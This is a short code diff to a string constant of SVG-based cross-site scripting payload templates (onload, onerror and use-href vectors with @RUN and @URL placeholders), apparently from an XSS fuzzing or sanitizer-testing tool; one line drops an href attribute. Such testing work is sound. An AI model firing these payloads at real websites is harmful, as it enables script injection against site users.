@@ -111,7 +111,7 @@ _NAMESPACES = """
 <svg><foreignObject><iframe onload=@RUN></iframe></foreignObject></svg>
 <svg><desc><img src=x onerror=@RUN></desc></svg>
 <svg><title><style><img src=x onerror=@RUN></style></title></svg>
-<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='@RUN'/></svg>#x">
+<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image onerror='@RUN'/></svg>#x">
 <svg><use xlink:href="@URL#x"/></svg>
 <svg><image href="@URL"/></svg>
 <svg><feImage href="@URL"/></svg>
